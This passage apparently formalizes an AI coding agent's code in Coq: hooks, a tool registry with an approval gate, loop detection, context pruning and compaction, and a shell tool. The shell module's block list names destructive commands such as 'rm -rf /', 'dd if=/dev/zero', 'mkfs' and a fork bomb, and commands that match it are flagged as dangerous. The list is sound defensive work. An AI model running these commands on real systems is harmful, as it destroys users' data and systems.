       AI_AGENT_TOOL_PARAMS := AI_AGENT_TOOL_PARAMS env;
       AI_AGENT_TOOL_RESULT := AI_AGENT_TOOL_RESULT env;
       AI_AGENT_RESPONSE := if Js.truthy agentResponse then agentResponse else None |} in
  run emit (Triggered AFTER_AGENT None None) in
  runMatching hs AFTER_AGENT env'.

Definition triggerBeforeTool (hs : HookSystem) (toolName : string)
    (toolParams : Params) : M World unit :=
  let env := withTool (buildEnv hs BEFORE_TOOL (Some toolName) None) toolParams None in
  run emit (Triggered BEFORE_TOOL (Some toolName) None) in
  runMatching hs BEFORE_TOOL env.

Definition triggerAfterTool (hs : HookSystem) (toolName : string)
    (toolParams : Params) (toolResult : ToolResult) : M World unit :=
  let env := withTool (buildEnv hs AFTER_TOOL (Some toolName) None) toolParams
               (Some (resultText toolResult)) in
  run emit (Triggered AFTER_TOOL (Some toolName) (Some toolResult)) in
  runMatching hs AFTER_TOOL env.

(** *** Vocabulary for reasoning about the trace *)

(** The trigger an effect belongs to. *)
Definition effectTrigger (e : Effect) : HookTrigger :=
  match e with
  | Triggered t _ _ => t
  | HookRan hook _ => trigger hook
  end.

(** The calls of [triggerBeforeAgent] and [triggerAfterAgent] recorded in a
    trace, in order. *)
Fixpoint agentCalls (tr : list Effect) : list HookTrigger :=
  match tr with
  | [] => []
  | Triggered BEFORE_AGENT _ _ :: rest => BEFORE_AGENT :: agentCalls rest
  | Triggered AFTER_AGENT _ _ :: rest => AFTER_AGENT :: agentCalls rest
  | _ :: rest => agentCalls rest
  end.

(** The hooks a trigger call runs: those kept by the constructor whose
    trigger is the one called. *)
Definition matching (hs : HookSystem) (t : HookTrigger) : list HookConfig :=
  List.filter (fun hook => trigger_eqb (trigger hook) t) (hooks hs).

(** A computation on the world that, however it ends, only adds to the
    trace, and adds only effects satisfying [P]. *)
Definition emitsOnly {A} (P : Effect -> Prop) (m : M World A) : Prop :=
  forall w, exists effs, trace (snd (m w)) = (trace w ++ effs)%list /\ Forall P effs.

(** An effect of the tool hooks. *)
Definition toolEffect (e : Effect) : Prop :=
  effectTrigger e = BEFORE_TOOL \/ effectTrigger e = AFTER_TOOL.

End WithEnv.
End Hooks.

(** ** Tools and the registry (tools/base.ts, tools/registry.ts) *)

Module Registry.
Import ToolBase Data Eff Hooks Approval.

Section WithEnv.
Context `{Env}.

Inductive ToolKind := READ | WRITE | SHELL | NETWORK | MEMORY | MCP.

(** The capability interface every tool implements.  [required] is the
    required-field list of its schema. *)
Record Tool := {
  name : string;
  toolDescription : string;
  required : list string;
  toolIsMutating : bool;
  getConfirmation : ToolInvocation -> M Ext (option ToolConfirmation);
  execute : ToolInvocation -> M Ext ToolResult
}.

(** Defaults of the abstract class. *)
Definition baseIsMutating (kind : ToolKind) : bool :=
  match kind with
  | WRITE | SHELL | NETWORK | MEMORY => true
  | READ | MCP => false
  end.

Definition baseGetConfirmation (toolName : string) (mutating : bool)
    (invocation : ToolInvocation) : M Ext (option ToolConfirmation) :=
  if negb mutating then ret None
  else ret (Some {| toolName := toolName;
                    confParams := params invocation;
                    description := "Execute " ++ toolName;
                    confDiff := None;
                    affectedPaths := None;
                    command := None;
                    isDangerous := None |}).

Definition validateParams (tool : Tool) (params : Params) : list string :=
  List.flat_map
    (fun field =>
       match params !! field with
       | None | Some Js.VNull => ["Parameter '" ++ field ++ "' is required"]
       | Some _ => []
       end)
    (required tool).

Definition toOpenAISchema (tool : Tool) : ToolSchema :=
  {| schemaName := name tool;
     schemaDescription := toolDescription tool;
     schemaRequired := required tool |}.

Record ToolRegistry := {
  tools : gmap string Tool;
  mcpTools : gmap string Tool;
  allowedTools : option (list string)
}.

Definition register (tool : Tool) (reg : ToolRegistry) : ToolRegistry :=
  {| tools := <[name tool := tool]> (tools reg);
     mcpTools := mcpTools reg;
     allowedTools := allowedTools reg |}.

Definition registerMcpTool (tool : Tool) (reg : ToolRegistry) : ToolRegistry :=
  {| tools := tools reg;
     mcpTools := <[name tool := tool]> (mcpTools reg);
     allowedTools := allowedTools reg |}.

(** [unregister(name)]: the answer of [Map.delete] and the registry left. *)
Definition unregister (toolName : string) (reg : ToolRegistry) : bool * ToolRegistry :=
  (bool_decide (is_Some (tools reg !! toolName)),
   {| tools := delete toolName (tools reg);
      mcpTools := mcpTools reg;
      allowedTools := allowedTools reg |}).

Definition get (reg : ToolRegistry) (toolName : string) : option Tool :=
  match tools reg !! toolName with
  | Some tool => Some tool
  | None => mcpTools reg !! toolName
  end.

(** The tools come in the order in which the finite map holds its keys;
    the source lists them in the order of their registration.  Nothing
    below depends on the order. *)
Definition getTools (reg : ToolRegistry) : list Tool :=
  let allTools := (List.map snd (map_to_list (tools reg))
                   ++ List.map snd (map_to_list (mcpTools reg)))%list in
  match allowedTools reg with
  | Some (a :: allowed) =>
      List.filter (fun tool => existsb (String.eqb (name tool)) (a :: allowed)) allTools
  | _ => allTools
  end.

Definition getSchemas (reg : ToolRegistry) : list ToolSchema :=
  List.map toOpenAISchema (getTools reg).

(** The confirmation callback: it asks the human and may take time, read
    the terminal, or throw. *)
Definition Callback : Type := ToolConfirmation -> M Ext bool.

Definition requestConfirmation (am : ApprovalManager Callback)
    (confirmation : ToolConfirmation) : M World bool :=
  match confirmationCallback am with
  | Some callback => onExt (callback confirmation)
  | None => ret true
  end.

(** The approval context [invoke] builds from a confirmation descriptor. *)
Definition contextOf (tool : Tool) (toolName : string) (params : Params)
    (confirmation : ToolConfirmation) : ApprovalContext :=
  {| ctxToolName := toolName;
     ctxParams := params;
     isMutating := toolIsMutating tool;
     ctxAffectedPaths := Js.nullish (affectedPaths confirmation) [];
     ctxCommand := command confirmation;
     ctxIsDangerous := Some (Js.nullish (isDangerous confirmation) false) |}.

(** The approval step of [invoke]: [Some result] when the invocation ends
    here, [None] when it goes on to execution. *)
Definition approvalGate (tool : Tool) (toolName : string) (params : Params)
    (invocation : ToolInvocation) (hookSystem : HookSystem)
    (approvalManager : option (ApprovalManager Callback)) : M World (option ToolResult) :=
  match approvalManager with
  | None => ret None
  | Some am =>
      let* confirmation := onExt (getConfirmation tool invocation) in
      match confirmation with
      | None => ret None
      | Some confirmation =>
          let context := contextOf tool toolName params confirmation in
          match checkApproval (Path.resolve procCwd) am context with
          | REJECTED =>
              let result := mkError "Operation rejected by safety policy" "" ∅ in
              run triggerAfterTool hookSystem toolName params result in
              ret (Some result)
          | NEEDS_CONFIRMATION =>
              let* approved := requestConfirmation am confirmation in
              if negb approved then
                let result := mkError "User rejected the operation" "" ∅ in
                run triggerAfterTool hookSystem toolName params result in
                ret (Some result)
              else ret None
          | APPROVED => ret None
          end
      end
  end.

Definition invoke (reg : ToolRegistry) (toolName : string) (params : Params)
    (cwd : string) (hookSystem : HookSystem)
    (approvalManager : option (ApprovalManager Callback)) : M World ToolResult :=
  match get reg toolName with
  | None =>
      let result := mkError ("Unknown tool: " ++ toolName) ""
                      {[ "tool_name" := Js.VStr toolName ]} in
      run triggerAfterTool hookSystem toolName params result in
      ret result
  | Some tool =>
      let validationErrors := validateParams tool params in
      if (0 <? List.length validationErrors)%nat then
        let result :=
          mkError ("Invalid parameters: " ++ Js.join "; " validationErrors) ""
            (<[ "tool_name" := Js.VStr toolName ]>
               {[ "validation_errors" := Js.VArr (List.map Js.VStr validationErrors) ]}) in
        run triggerAfterTool hookSystem toolName params result in
        ret result
      else
        run triggerBeforeTool hookSystem toolName params in
        let invocation := {| params := params; cwd := cwd |} in
        let* stopped := approvalGate tool toolName params invocation hookSystem
                          approvalManager in
        match stopped with
        | Some result => ret result
        | None =>
            tryCatch
              (let* result := onExt (execute tool invocation) in
               run triggerAfterTool hookSystem toolName params result in
               ret result)
              (fun error =>
                 let result := mkError ("Internal error: " ++ error) "" ∅ in
                 run triggerAfterTool hookSystem toolName params result in
                 ret result)
        end
  end.

(** *** A built-in tool: make_dir (tools/builtin/makeDir.ts) *)

(** [resolvePath(base, target)] from utils/paths.ts.  Node's path functions
    throw a [TypeError] on an argument that is not a string. *)
Definition resolvePath (base : string) (target : option Js.Value) : Js.Exc string :=
  match target with
  | Some (Js.VStr t) =>
      inr (if Path.isAbsolute t then Path.resolve procCwd t
           else Path.resolve2 procCwd base t)
  | _ =>
      inl ("TypeError [ERR_INVALID_ARG_TYPE]: The " ++ Js.dq ++ "path" ++ Js.dq
           ++ " argument must be of type string")
  end.

Definition MakeDirTool : Tool :=
  {| name := "make_dir";
     toolDescription := "Create a directory (including parents).";
     required := ["path"];
     toolIsMutating := baseIsMutating WRITE;
     getConfirmation := fun invocation =>
       let* target := liftExc (resolvePath (cwd invocation) (params invocation !! "path")) in
       ret (Some {| toolName := "make_dir";
                    confParams := params invocation;
                    description := "Create directory: " ++ target;
                    confDiff := None;
                    affectedPaths := Some [target];
                    command := None;
                    isDangerous := None |});
     execute := fun invocation =>
       let* target := liftExc (resolvePath (cwd invocation) (params invocation !! "path")) in
       fun e =>
         match mkdirSync target e with
         | (None, e') =>
             (inr {| success := true;
                     output := "Created directory: " ++ target;
                     error := None;
                     metadata := {[ "path" := Js.VStr (Path.resolve procCwd target) ]};
                     truncated := false; diff := None; exitCode := None |}, e')
         | (Some err, e') =>
             (inr (mkError ("Failed to create directory: " ++ err) "" ∅), e')
         end |}.

End WithEnv.
End Registry.

(** ** Loop detector (context/loopDetector.ts) *)

Module LoopDetector.
Import ToolBase.

Definition maxExactRepeats : nat := 3.
Definition maxCycleLength : nat := 3.
Definition historyMax : nat := 20.

Record LoopDetector := {
  history : list string
}.

Definition newLoopDetector : LoopDetector := {| history := [] |}.

Record ActionDetails := {
  toolName : option string;
  args : option Params;
  text : option string
}.

(** The signature of an action: the parts joined by a bar. *)
Definition signature (actionType : string) (details : ActionDetails) : string :=
  let output :=
    if String.eqb actionType "tool_call" then
      let args := Js.nullish (args details) ∅ in
      List.app [actionType; Js.nullish (toolName details) ""]
        (List.map
           (fun key => key ++ "=" ++
                       match args !! key with
                       | Some v => Js.toStr v
                       | None => "undefined"
                       end)
           (Js.sort (List.map fst (map_to_list args))))
    else if String.eqb actionType "response" then
      [actionType; Js.nullish (text details) ""]
    else [actionType] in
  Js.join "|" output.

Definition recordAction (actionType : string) (details : ActionDetails)
    (ld : LoopDetector) : LoopDetector :=
  let pushed := (history ld ++ [signature actionType details])%list in
  {| history := if (historyMax <? List.length pushed)%nat then List.tl pushed
                else pushed |}.

(** [xs.slice(-n)] *)
Definition sliceLast {A} (n : nat) (xs : list A) : list A :=
  List.skipn (List.length xs - n) xs.

(** [new Set(xs).size] *)
Definition distinct (xs : list string) : nat :=
  size (list_to_set xs : gset string).

Fixpoint firstCycle (history : list string) (cycleLens : list nat) : option string :=
  match cycleLens with
  | [] => None
  | cycleLen :: rest =>
      let recent := sliceLast (cycleLen * 2) history in
      if String.eqb (Js.join "," (List.firstn cycleLen recent))
                    (Js.join "," (List.skipn cycleLen recent))
      then Some ("Detected repeating cycle of length " ++ Js.ofNat cycleLen)
      else firstCycle history rest
  end.

Definition checkForLoop (ld : LoopDetector) : option string :=
  let h := history ld in
  if (List.length h <? 2)%nat then None
  else if (maxExactRepeats <=? List.length h)%nat
          && (distinct (sliceLast maxExactRepeats h) =? 1)%nat
  then Some ("Same action repeated " ++ Js.ofNat maxExactRepeats ++ " times")
  else if (maxCycleLength * 2 <=? List.length h)%nat then
    let maxCycle := Nat.min maxCycleLength (List.length h / 2) in
    firstCycle h (List.seq 2 (maxCycle - 1))
  else None.

Definition clear (ld : LoopDetector) : LoopDetector := {| history := [] |}.

End LoopDetector.

(** ** Context manager and chat compactor (context/manager.ts,
       context/compaction.ts, utils/text.ts) *)

Module Context.
Import ToolBase Data Eff Hooks.

Section WithEnv.
Context `{Env}.

Definition estimateTokens (text : string) : N :=
  N.max 1 (N.of_nat (String.length text) / 4).

(** [countTokens(text, model)]: when the tokenizer throws, the estimate is
    used; the estimate reads [text.length], which throws on [undefined]. *)
Definition countTokens (text : option string) (model : string) : Js.Exc N :=
  match encode model text with
  | Some n => inr n
  | None =>
      match text with
      | Some s => inr (estimateTokens s)
      | None =>
          inl "TypeError: Cannot read properties of undefined (reading 'length')"
      end
  end.

(** A stored message.  [content] is declared a string; a caller that passes
    [undefined] leaves [None] in the field. *)
Record MessageItem := {
  role : string;
  content : option string;
  toolCallId : option string;
  toolCalls : option (list ToolCallRef);
  tokenCount : option N;
  prunedAt : option nat
}.

Definition PRUNE_PROTECT_TOKENS : N := 40000.
Definition PRUNE_MINIMUM_TOKENS : N := 20000.

Record ContextManager := {
  systemPrompt : string;
  modelName : string;
  messages : list MessageItem;
  latestUsage : TokenUsage;
  totalUsage : TokenUsage
}.

Definition newContextManager (systemPrompt modelName : string) : ContextManager :=
  {| systemPrompt := systemPrompt; modelName := modelName; messages := [];
     latestUsage := zeroUsage; totalUsage := zeroUsage |}.

Definition setMessages (ms : list MessageItem) (cm : ContextManager) : ContextManager :=
  {| systemPrompt := systemPrompt cm; modelName := modelName cm; messages := ms;
     latestUsage := latestUsage cm; totalUsage := totalUsage cm |}.

Definition push (m : MessageItem) (cm : ContextManager) : ContextManager :=
  setMessages (messages cm ++ [m])%list cm.

Definition messageCount (cm : ContextManager) : nat := List.length (messages cm).

#[local] Open Scope exc_scope.

Definition addUserMessage (content : option string) (cm : ContextManager)
    : Js.Exc ContextManager :=
  let* n := countTokens content (modelName cm) in
  inr (push {| role := "user"; content := content; toolCallId := None;
               toolCalls := None; tokenCount := Some n; prunedAt := None |} cm).

Definition addAssistantMessage (content : option string)
    (toolCalls : option (list ToolCallRef)) (cm : ContextManager)
    : Js.Exc ContextManager :=
  let text := Js.nullish content "" in
  let* n := countTokens (Some text) (modelName cm) in
  inr (push {| role := "assistant"; content := Some text; toolCallId := None;
               toolCalls := Some (Js.nullish toolCalls []);
               tokenCount := Some n; prunedAt := None |} cm).

Definition addToolResult (toolCallId content : option string) (cm : ContextManager)
    : Js.Exc ContextManager :=
  let* n := countTokens content (modelName cm) in
  inr (push {| role := "tool"; content := content; toolCallId := toolCallId;
               toolCalls := None; tokenCount := Some n; prunedAt := None |} cm).

Definition itemPayload (item : MessageItem) : Payload :=
  {| pRole := role item;
     tool_call_id := if Js.truthy (toolCallId item) then toolCallId item else None;
     tool_calls := match toolCalls item with
                   | Some (c :: cs) => Some (c :: cs)
                   | _ => None
                   end;
     pContent := if Js.truthy (content item) then content item else None |}.

Definition getMessages (cm : ContextManager) : list Payload :=
  ((if Js.truthyStr (systemPrompt cm)
    then [ {| pRole := "system"; tool_call_id := None; tool_calls := None;
              pContent := Some (systemPrompt cm) |} ]
    else [])
   ++ List.map itemPayload (messages cm))%list.

(** [currentTokens > contextWindow * 0.8], on integers. *)
Definition needsCompression (contextWindow : N) (cm : ContextManager) : bool :=
  (4 * contextWindow <? 5 * totalTokens (latestUsage cm))%N.

Definition setLatestUsage (u : TokenUsage) (cm : ContextManager) : ContextManager :=
  {| systemPrompt := systemPrompt cm; modelName := modelName cm;
     messages := messages cm; latestUsage := u; totalUsage := totalUsage cm |}.

Definition addUsageCM (u : TokenUsage) (cm : ContextManager) : ContextManager :=
  {| systemPrompt := systemPrompt cm; modelName := modelName cm;
     messages := messages cm; latestUsage := latestUsage cm;
     totalUsage := addUsage (totalUsage cm) u |}.

(** The template of the context-restoration message, around [${summary}]. *)
Definition continuationHead : string :=
  ("# Context Restoration (Previous Session Compacted)" ++ Js.nl ++ Js.nl
   ++ "The previous conversation was compacted due to context length limits. Below is a detailed summary of the work done so far."
   ++ Js.nl ++ Js.nl
   ++ "**CRITICAL: Actions listed under " ++ Js.dq ++ "COMPLETED ACTIONS" ++ Js.dq
   ++ " are already done. DO NOT repeat them.**" ++ Js.nl ++ Js.nl
   ++ "---" ++ Js.nl ++ Js.nl)%string.

Definition continuationTail : string :=
  (Js.nl ++ Js.nl ++ "---" ++ Js.nl ++ Js.nl
   ++ "Resume work from where we left off. Focus ONLY on the remaining tasks.")%string.

Definition continuationContent (summary : string) : string :=
  (continuationHead ++ summary ++ continuationTail)%string.

Definition ackContent : string :=
  ("I've reviewed the context from the previous session. I understand:" ++ Js.nl
   ++ "- The original goal and what was requested" ++ Js.nl
   ++ "- Which actions are ALREADY COMPLETED (I will NOT repeat these)" ++ Js.nl
   ++ "- The current state of the project" ++ Js.nl
   ++ "- What still needs to be done" ++ Js.nl ++ Js.nl
   ++ "I'll continue with the REMAINING tasks only, starting from where we left off.")%string.

Definition continueContent : string :=
  "Continue with the REMAINING work only. Do NOT repeat any completed actions. Proceed with the next step as described in the context above.".

(** A message as [replaceWithSummary] builds it: role, content and token
    count only. *)
Definition plainMessage (r c : string) (n : N) : MessageItem :=
  {| role := r; content := Some c; toolCallId := None; toolCalls := None;
     tokenCount := Some n; prunedAt := None |}.

Definition replaceWithSummary (summary : string) (cm : ContextManager)
    : Js.Exc ContextManager :=
  let cm0 := setMessages [] cm in
  let* n1 := countTokens (Some (continuationContent summary)) (modelName cm) in
  let cm1 := push (plainMessage "user" (continuationContent summary) n1) cm0 in
  let* n2 := countTokens (Some ackContent) (modelName cm) in
  let cm2 := push (plainMessage "assistant" ackContent n2) cm1 in
  let* n3 := countTokens (Some continueContent) (modelName cm) in
  inr (push (plainMessage "user" continueContent n3) cm2).

Definition placeholder : string := "[Old tool result content cleared]".

Definition isToolResult (msg : MessageItem) : bool :=
  String.eqb (role msg) "tool" && Js.truthy (toolCallId msg).

(** [msg.tokenCount ?? countTokens(msg.content, model)] *)
Definition tokensOf (model : string) (msg : MessageItem) : Js.Exc N :=
  match tokenCount msg with
  | Some n => inr n
  | None => countTokens (content msg) model
  end.

(** The backward walk of [pruneToolOutputs] over the messages paired with
    their positions, newest first.  It returns the token total of the
    messages to prune and their positions. *)
Fixpoint walk (model : string) (newestFirst : list (nat * MessageItem))
    (totalTokens prunedTokens : N) (toPrune : list nat)
    : Js.Exc (N * list nat) :=
  match newestFirst with
  | [] => inr (prunedTokens, toPrune)
  | (i, msg) :: older =>
      if isToolResult msg then
        if bool_decide (is_Some (prunedAt msg)) then inr (prunedTokens, toPrune)
        else
          let* tokens := tokensOf model msg in
          let totalTokens := (totalTokens + tokens)%N in
          if (PRUNE_PROTECT_TOKENS <? totalTokens)%N
          then walk model older totalTokens (prunedTokens + tokens)%N (toPrune ++ [i])%list
          else walk model older totalTokens prunedTokens toPrune
      else walk model older totalTokens prunedTokens toPrune
  end.

(** The messages paired with their positions in the history. *)
Definition indexed {A} (xs : list A) : list (nat * A) := imap pair xs.

(** A message after the three assignments of the pruning loop, [n] being
    the token count of the placeholder. *)
Definition clearedMsg (n : N) (now : nat) (msg : MessageItem) : MessageItem :=
  {| role := role msg; content := Some placeholder; toolCallId := toolCallId msg;
     toolCalls := toolCalls msg; tokenCount := Some n; prunedAt := Some now |}.

Definition clearContent (model : string) (now : nat) (msg : MessageItem)
    : Js.Exc MessageItem :=
  let* n := countTokens (Some placeholder) model in
  inr (clearedMsg n now msg).

Fixpoint clearAll (model : string) (now : nat) (toPrune : list nat)
    (ms : list MessageItem) : Js.Exc (list MessageItem) :=
  match toPrune with
  | [] => inr ms
  | i :: rest =>
      match ms !! i with
      | Some msg =>
          let* msg' := clearContent model now msg in
          clearAll model now rest (<[i := msg']> ms)
      | None => clearAll model now rest ms
      end
  end.

(** [pruneToolOutputs()] run at time [now]: the new state and the number of
    messages pruned. *)
Definition pruneToolOutputs (now : nat) (cm : ContextManager)
    : Js.Exc (ContextManager * nat) :=
  let userMessageCount :=
    List.length (List.filter (fun msg => String.eqb (role msg) "user") (messages cm)) in
  if (userMessageCount <? 2)%nat then inr (cm, 0)
  else
    let* found := walk (modelName cm) (List.rev (indexed (messages cm))) 0%N 0%N [] in
    let (prunedTokens, toPrune) := found in
    if (prunedTokens <? PRUNE_MINIMUM_TOKENS)%N then inr (cm, 0)
    else
      let* ms := clearAll (modelName cm) now toPrune (messages cm) in
      inr (setMessages ms cm, List.length toPrune).

Definition clear (cm : ContextManager) : ContextManager := setMessages [] cm.

(** *** Pruning as the specification words it

    The definitions below do not come from the code: they describe, position
    by position, which messages the pruning rule selects, and are compared
    with [pruneToolOutputs] in the theorems. *)

(** Token count of a message: the cached one when present. *)
Definition msgTokens (model : string) (m : MessageItem) : N :=
  match tokenCount m with
  | Some n => n
  | None => match countTokens (content m) model with
            | inr n => n
            | inl _ => 0%N
            end
  end.

Definition isPruned (m : MessageItem) : bool := bool_decide (is_Some (prunedAt m)).

(** Accumulated token count of the tool results in a stretch of history. *)
Definition toolTokens (model : string) (stretch : list MessageItem) : N :=
  List.fold_right
    (fun m acc => if isToolResult m then (msgTokens model m + acc)%N else acc)
    0%N stretch.

(** No already-pruned tool result in a stretch of history. *)
Definition noPrunedResult (stretch : list MessageItem) : bool :=
  forallb (fun m => negb (isToolResult m && isPruned m)) stretch.

(** The message [m] at position [i] is a pruning candidate: an unpruned tool
    result, with no pruned tool result after it, at which the token count
    accumulated from the newest message down to it exceeds the protect
    threshold. *)
Definition pruneCandidate (model : string) (msgs : list MessageItem) (i : nat)
    (m : MessageItem) : bool :=
  isToolResult m && negb (isPruned m)
  && noPrunedResult (List.skipn (S i) msgs)
  && (PRUNE_PROTECT_TOKENS <? toolTokens model (List.skipn i msgs))%N.

Definition candidateAt (model : string) (msgs : list MessageItem) (i : nat) : bool :=
  match msgs !! i with
  | Some m => pruneCandidate model msgs i m
  | None => false
  end.

(** Positions of the candidates below [k], newest first. *)
Fixpoint candidatesBelow (model : string) (msgs : list MessageItem) (k : nat) : list nat :=
  match k with
  | O => []
  | S k' => ((if candidateAt model msgs k' then [k'] else [])
             ++ candidatesBelow model msgs k')%list
  end.

Definition candidates (model : string) (msgs : list MessageItem) : list nat :=
  candidatesBelow model msgs (List.length msgs).

Definition tokensAt (model : string) (msgs : list MessageItem) (i : nat) : N :=
  match msgs !! i with
  | Some m => msgTokens model m
  | None => 0%N
  end.

Definition sumN (xs : list N) : N := List.fold_right N.add 0%N xs.

Definition candidateTokens (model : string) (msgs : list MessageItem) : N :=
  sumN (List.map (tokensAt model msgs) (candidates model msgs)).

(** A walked list in which the positions listed in [S] have been cleared. *)
Definition clearIn (n0 : N) (now : nat) (S : list nat) (L : list (nat * MessageItem))
    : list (nat * MessageItem) :=
  List.map (fun im => (fst im, if bool_decide (fst im ∈ S)
                               then clearedMsg n0 now (snd im) else snd im)) L.

Definition userMessages (msgs : list MessageItem) : nat :=
  List.length (List.filter (fun msg => String.eqb (role msg) "user") msgs).

(** The history after pruning: every candidate cleared in place. *)
Definition prunedHistory (model : string) (n : N) (now : nat)
    (msgs : list MessageItem) : list MessageItem :=
  imap (fun i m => if pruneCandidate model msgs i m then clearedMsg n now m else m) msgs.

(** A message as the append operations store it when given defined,
    non-empty texts: the shape a snapshot can carry. *)
Definition storedByAppend (model : string) (m : MessageItem) : Prop :=
  prunedAt m = None
  /\ (exists c n, content m = Some c /\ tokenCount m = Some n
                  /\ countTokens (Some c) model = inr n)
  /\ ((role m = "user" /\ Js.truthy (content m) = true
       /\ toolCallId m = None /\ toolCalls m = None)
      \/ (role m = "assistant" /\ toolCallId m = None /\ is_Some (toolCalls m))
      \/ (role m = "tool" /\ Js.truthy (content m) = true
          /\ Js.truthy (toolCallId m) = true /\ toolCalls m = None)).

(** *** Chat compactor *)

Definition truncateTo (limit : nat) (marker content : string) : string :=
  let truncated := String.substring 0 limit content in
  if (limit <? String.length content)%nat then (truncated ++ marker)%string
  else truncated.

Definition formatToolCall (toolCall : ToolCallRef) : string :=
  let func := Js.nullish (function toolCall) {| fnName := None; fnArguments := None |} in
  let name := Js.nullish (fnName func) "unknown" in
  let args := Js.nullish (fnArguments func) "{}" in
  let args := if (500 <? String.length args)%nat then String.substring 0 500 args
              else args in
  ("  - " ++ name ++ "(" ++ args ++ ")")%string.

Definition formatMessage (message : Payload) : list string :=
  let content := Js.nullish (pContent message) "" in
  if String.eqb (pRole message) "system" then []
  else if String.eqb (pRole message) "tool" then
    [ ("[Tool Result (" ++ Js.nullish (tool_call_id message) "unknown" ++ ")]:" ++ Js.nl
       ++ truncateTo 2000 (Js.nl ++ "... [tool output truncated]") content)%string ]
  else if String.eqb (pRole message) "assistant" then
    ((if Js.truthyStr content
      then [ ("Assistant:" ++ Js.nl
              ++ truncateTo 3000 (Js.nl ++ "... [response truncated]") content)%string ]
      else [])
     ++ match tool_calls message with
        | Some calls =>
            [ ("Assistant called tools:" ++ Js.nl
               ++ Js.join Js.nl (List.map formatToolCall calls))%string ]
        | None => []
        end)%list
  else
    [ ("User:" ++ Js.nl
       ++ truncateTo 1500 (Js.nl ++ "... [message truncated]") content)%string ].

Definition formatHistory (messages : list Payload) : string :=
  Js.join (Js.nl ++ Js.nl ++ "---" ++ Js.nl ++ Js.nl)%string
    (("Here is the conversation that needs to be continue: " ++ Js.nl)%string
     :: List.flat_map formatMessage messages).

(** The loop of [compress] over the events of the reply. *)
Definition collect (acc : string * option TokenUsage) (event : StreamEvent)
    : string * option TokenUsage :=
  match evType event with
  | MESSAGE_COMPLETE =>
      (if Js.truthy (textDelta event)
       then (fst acc ++ Js.nullish (textDelta event) "")%string else fst acc,
       usage event)
  | _ => acc
  end.

Definition compressionMessages (messages : list Payload) : list Payload :=
  [ {| pRole := "system"; tool_call_id := None; tool_calls := None;
       pContent := Some getCompressionPrompt |};
    {| pRole := "user"; tool_call_id := None; tool_calls := None;
       pContent := Some (formatHistory messages) |} ].

Definition compress (cm : ContextManager)
    : M World (option string * option TokenUsage) :=
  let messages := getMessages cm in
  if (List.length messages <? 3)%nat then ret (None, None)
  else
    fun w =>
      let (stream, e') :=
        chatCompletion (compressionMessages messages) None false (ext w) in
      let w' := {| ext := e'; trace := trace w |} in
      match thrown stream with
      | Some _ => (inr (None, None), w')
      | None =>
          let (summary, usage) := List.fold_left collect (events stream) ("", None) in
          if negb (Js.truthyStr summary) || negb (bool_decide (is_Some usage))
          then (inr (None, None), w')
          else (inr (Some summary, usage), w')
      end.

End WithEnv.
End Context.

(** ** Token counts and truncation of texts (utils/text.ts) *)

Module Text.
Import Context.

Section WithEnv.
Context `{Env}.

(** [countTokens(text, model)] on a string: the tokenizer, or the estimate
    when the tokenizer throws. *)
Definition countText (text model : string) : N :=
  match encode model (Some text) with
  | Some n => n
  | None => estimateTokens text
  end.

Definition defaultSuffix : string := (Js.nl ++ "... [truncated]")%string.

(** The binary search of [truncateByChars]: the pair [(low, high)] after at
    most [fuel] iterations of the loop [while (low < high)]. *)
Fixpoint searchLoop (fits : nat -> bool) (fuel low high : nat) : nat * nat :=
  match fuel with
  | O => (low, high)
  | S fuel' =>
      if (low <? high)%nat then
        let mid := (low + high + 1) / 2 in
        if fits mid then searchLoop fits fuel' mid high
        else searchLoop fits fuel' low (mid - 1)
      else (low, high)
  end.

(** Whether the first [mid] characters are within the target. *)
Definition fitsIn (text model : string) (targetTokens : Z) (mid : nat) : bool :=
  (Z.of_N (countText (String.substring 0 mid text) model) <=? targetTokens)%Z.

(** [truncateByChars]; the loop is given as many iterations as the text has
    characters, which is enough for it to end by its own test. *)
Definition truncateByChars (text : string) (targetTokens : Z) (suffix model : string)
    : string :=
  let (low, _) := searchLoop (fitsIn text model targetTokens)
                    (String.length text) 0 (String.length text) in
  (String.substring 0 low text ++ suffix)%string.

(** The loop of [truncateByLines]: the lines kept. *)
Fixpoint takeLines (model : string) (lines : list string) (targetTokens : Z)
    (currentTokens : N) : list string :=
  match lines with
  | [] => []
  | line :: rest =>
      let lineTokens := countText (line ++ Js.nl) model in
      if (targetTokens <? Z.of_N (currentTokens + lineTokens))%Z then []
      else line :: takeLines model rest targetTokens (currentTokens + lineTokens)%N
  end.

(** What the loop of [truncateByLines] has accumulated after these lines. *)
Definition lineTokens (model : string) (lines : list string) : N :=
  sumN (List.map (fun line => countText (line ++ Js.nl) model) lines).

Definition truncateByLines (text : string) (targetTokens : Z) (suffix model : string)
    : string :=
  match takeLines model (Js.splitChar Js.lf text) targetTokens 0 with
  | [] => truncateByChars text targetTokens suffix model
  | resultLines => (Js.join Js.nl resultLines ++ suffix)%string
  end.

Definition truncateText (text model : string) (maxTokens : Z) (suffix : string)
    (preserveLines : bool) : string :=
  if (Z.of_N (countText text model) <=? maxTokens)%Z then text
  else
    let targetTokens := (maxTokens - Z.of_N (countText suffix model))%Z in
    if (targetTokens <=? 0)%Z then Js.trim suffix
    else if preserveLines then truncateByLines text targetTokens suffix model
    else truncateByChars text targetTokens suffix model.

End WithEnv.
End Text.

(** ** The shell tool (tools/builtin/shell.ts) *)

Module Shell.
Import ToolBase Data Eff Hooks Approval Registry.

(** How a spawned child ends: the timer fires first, or the child exits,
    with its exit code ([None] when a signal ended it) and what it wrote to
    its two streams. *)
Inductive Outcome :=
| TimedOut
| Exited (code : option Z) (stdout stderr : string).

Definition BLOCKED_COMMANDS : list string :=
  [ "rm -rf /";
    "rm -rf ~";
    "rm -rf /*";
    "dd if=/dev/zero";
    "dd if=/dev/random";
    "mkfs";
    "fdisk";
    "parted";
    ":(){ :|:& };:";
    "chmod 777 /";
    "chmod -R 777";
    "shutdown";
    "reboot";
    "halt";
    "poweroff";
    "init 0";
    "init 6" ].

(** The loop over [BLOCKED_COMMANDS] of both methods. *)
Definition isBlocked (command : string) : bool :=
  existsb (Js.includes command) BLOCKED_COMMANDS.

(** [getConfirmation] on a command. *)
Definition shellConfirmation (params : Params) (command : string) : ToolConfirmation :=
  if isBlocked command then
    {| toolName := "shell";
       confParams := params;
       description := "Execute (BLOCKED): " ++ command;
       confDiff := None;
       affectedPaths := None;
       command := Some command;
       isDangerous := Some true |}
  else
    {| toolName := "shell";
       confParams := params;
       description := "Execute: " ++ command;
       confDiff := None;
       affectedPaths := None;
       command := Some command;
       isDangerous := Some false |}.

Definition MAX_OUTPUT : nat := 100 * 1024.

